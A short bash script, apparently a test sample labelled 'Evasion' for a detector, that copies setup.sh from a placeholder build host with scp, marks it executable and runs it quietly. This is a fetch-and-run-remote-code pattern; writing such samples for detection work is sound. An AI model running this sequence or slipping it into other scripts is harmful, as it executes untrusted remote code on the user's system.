#!/bin/bash
# Evasion: a script copied from another host with scp is made executable and run
set -eu
tmp=$(mktemp /tmp/setup.XXXXXX)
scp -q build@build.example.net:/srv/setup.sh "$tmp"
chmod +x "$tmp"
"$tmp" --quiet
